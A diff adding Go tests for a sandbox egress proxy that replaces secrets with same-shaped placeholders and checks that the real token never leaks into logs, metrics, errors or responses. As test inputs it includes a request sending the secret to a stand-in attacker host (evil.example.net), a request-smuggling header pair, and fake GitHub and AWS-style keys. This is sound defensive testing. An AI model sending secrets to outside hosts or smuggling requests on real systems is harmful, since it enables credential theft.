@@ -1,0 +1,146 @@
+package egress
+
+import (
+	"bytes"
+	"encoding/json"
+	"errors"
+	"io"
+	"net/http"
+	"net/url"
+	"strings"
+	"testing"
+	"unicode"
+
+	"github.com/prometheus/common/expfmt"
+)
+
+// TestSecretNeverLeaks drives every path a secret could take and scans everything the proxy
+// produces (decisions, Summary, logs, metrics, answers to the sandbox, errors) for the value.
+func TestSecretNeverLeaks(t *testing.T) {
+	h := setup(t, nil)
+	ph := h.placeholder(t)
+	var seen bytes.Buffer // everything the sandbox side got back
+	do := func(method, u string, hdr map[string]string) {
+		req, _ := http.NewRequest(method, u, strings.NewReader("body "+ph))
+		for k, v := range hdr {
+			req.Header.Set(k, v)
+		}
+		resp, err := h.client(t).Do(req)
+		if err != nil {
+			seen.WriteString(err.Error())
+			return
+		}
+		defer resp.Body.Close()
+		resp.Header.Write(&seen)
+		io.Copy(&seen, resp.Body)
+	}
+	auth := map[string]string{"Authorization": "Bearer " + ph, "X-Api-Key": ph}
+	do("GET", "https://api.example.com/v1", auth)
+	do("POST", "https://api.example.com/v1", auth)
+	do("GET", "https://user:"+url.PathEscape(ph)+"@api.example.com/basic", nil)
+	do("GET", "https://pkg.example.com/", auth)
+	do("GET", "http://api.example.com/", auth)
+	do("GET", "https://lo.files.example.com/", auth)
+	do("GET", "http://evil.example.net/?k="+ph, auth)
+	seen.WriteString(h.raw(t, getReq("http://plain.example.com/", "plain.example.com", "Authorization: "+ph+"\r\nContent-Length: 1\r\nTransfer-Encoding: chunked\r\n")).Status)
+
+	// The value did reach the bound host, on TLS, and only there.
+	if got := h.tlsUp.reqs[0].Header.Get("Authorization"); got != "Bearer "+realToken {
+		t.Fatalf("the bound host saw %q, want the real value", redact(got))
+	}
+	if u, p, _ := h.tlsUp.reqs[2].BasicAuth(); u != "user" || p != realToken {
+		t.Fatalf("Basic credentials to the bound host: %q, want the real value", redact(p))
+	}
+	for _, r := range append(h.tlsUp.reqs[3:], h.plainUp.reqs...) {
+		for k, v := range r.Header {
+			if strings.Contains(strings.Join(v, ","), realToken) {
+				t.Errorf("%s %s got the real value in %s", r.Method, r.Host, k)
+			}
+		}
+	}
+
+	_, err := New(Config{}, Policy{Allow: []string{"a.example.com"}, Secrets: []Secret{{Env: "T", Value: realToken + "\n", Hosts: []string{"a.example.com"}}}})
+	if !errors.Is(err, ErrInvalidPolicy) {
+		t.Fatalf("New with a newline in a value: %v", err)
+	}
+	_, err2 := New(Config{}, Policy{Allow: []string{"a.example.com"}, Secrets: []Secret{{Env: "T", Value: realToken, Hosts: []string{"b.example.com"}}}})
+	decisions, _ := json.Marshal(h.all())
+	summary, _ := json.Marshal(h.proxy.Summary())
+	outputs := map[string]string{
+		"decisions": string(decisions), "summary": string(summary), "logs": h.logs.String(),
+		"metrics": gatherText(t, h), "sandbox": seen.String(), "errors": err.Error() + err2.Error(),
+	}
+	for name, out := range outputs {
+		if out == "" {
+			t.Errorf("%s is empty: the scan would prove nothing", name)
+		}
+		if strings.Contains(out, realToken) {
+			t.Errorf("the real value is in the %s", name)
+		}
+	}
+	if s := h.proxy.Summary(); len(s.Secrets) != 1 || s.Secrets[0] != "EXAMPLE_TOKEN" {
+		t.Errorf("Summary secrets %v, want [EXAMPLE_TOKEN]", s.Secrets)
+	}
+}
+
+func gatherText(t *testing.T, h *harness) string {
+	t.Helper()
+	mfs, err := h.reg.Gather()
+	if err != nil {
+		t.Fatal(err)
+	}
+	var b bytes.Buffer
+	enc := expfmt.NewEncoder(&b, expfmt.NewFormat(expfmt.TypeTextPlain))
+	for _, mf := range mfs {
+		enc.Encode(mf)
+	}
+	return b.String()
+}
+
+func TestPlaceholderShape(t *testing.T) {
+	for _, value := range []string{realToken, "ghp_0123456789abcdefABCDEF0123456789abcd", "AKIA0123456789ABCDEF", "a.b-c_d/e+f=g0123456789"} {
+		ph, err := placeholderFor(value)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if ph == value || len(ph) != len(value) {
+			t.Fatalf("placeholder %q for a %d-byte value", ph, len(value))
+		}
+		for i, c := range []byte(value) {
+			p := ph[i]
+			same := unicode.IsLower(rune(c)) == unicode.IsLower(rune(p)) && unicode.IsUpper(rune(c)) == unicode.IsUpper(rune(p)) &&
+				unicode.IsDigit(rune(c)) == unicode.IsDigit(rune(p))
+			if !same || (classOf(rune(c)) == "" && c != p) {
+				t.Fatalf("placeholder %q differs in shape from the value at %d", ph, i)
+			}
+		}
+	}
+	if _, err := placeholderFor("short-1"); err == nil {
+		t.Fatal("a value with 6 letters and digits got a placeholder")
+	}
+}
+
+func TestEnv(t *testing.T) {
+	h := setup(t, nil)
+	env := map[string]string{}
+	for _, kv := range h.proxy.Env("127.0.0.1:3128", "/etc/boxcar/ca.pem") {
+		k, v, _ := strings.Cut(kv, "=")
+		env[k] = v
+	}
+	for _, k := range []string{"HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy"} {
+		if env[k] != "http://127.0.0.1:3128" {
+			t.Errorf("%s=%q", k, env[k])
+		}
+	}
+	for _, k := range []string{"SSL_CERT_FILE", "REQUESTS_CA_BUNDLE", "NODE_EXTRA_CA_CERTS", "GIT_SSL_CAINFO", "PIP_CERT", "CURL_CA_BUNDLE"} {
+		if env[k] != "/etc/boxcar/ca.pem" {
+			t.Errorf("%s=%q", k, env[k])
+		}
+	}
+	if env["NO_PROXY"] == "" || env["no_proxy"] != env["NO_PROXY"] {
+		t.Errorf("NO_PROXY=%q no_proxy=%q", env["NO_PROXY"], env["no_proxy"])
+	}
+	if ph := env["EXAMPLE_TOKEN"]; ph == "" || ph == realToken || len(ph) != len(realToken) {
+		t.Errorf("EXAMPLE_TOKEN is not a placeholder of the value's shape")
+	}
+}
